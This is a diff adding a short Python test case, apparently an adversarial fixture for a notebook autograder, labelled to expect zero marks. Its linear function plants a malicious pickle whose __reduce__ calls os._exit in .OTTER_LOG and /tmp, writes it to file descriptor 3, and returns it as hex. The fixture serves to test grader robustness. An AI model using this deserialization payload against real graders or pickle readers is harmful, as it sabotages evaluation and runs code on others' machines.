@@ -1,0 +1,21 @@
+# C5 · Sends a pickle that would run code in whoever reads it, as an answer and down the channel.
+# expect: linear=0
+
+# %% nbgrader={"schema_version": 3, "grade": false, "solution": true, "locked": false, "task": false, "grade_id": "linear"}
+import os
+import pickle
+
+class Payload:
+    def __reduce__(self):
+        return (os._exit, (0,))
+
+def linear(x, weight, bias):
+    for folder in (".", "/tmp"):
+        try:
+            with open(f"{folder}/.OTTER_LOG", "wb") as file:
+                pickle.dump(Payload(), file)
+            return F.linear(x, weight, bias)
+        except OSError:
+            continue
+    os.write(3, pickle.dumps(Payload()))
+    return pickle.dumps(Payload()).hex()
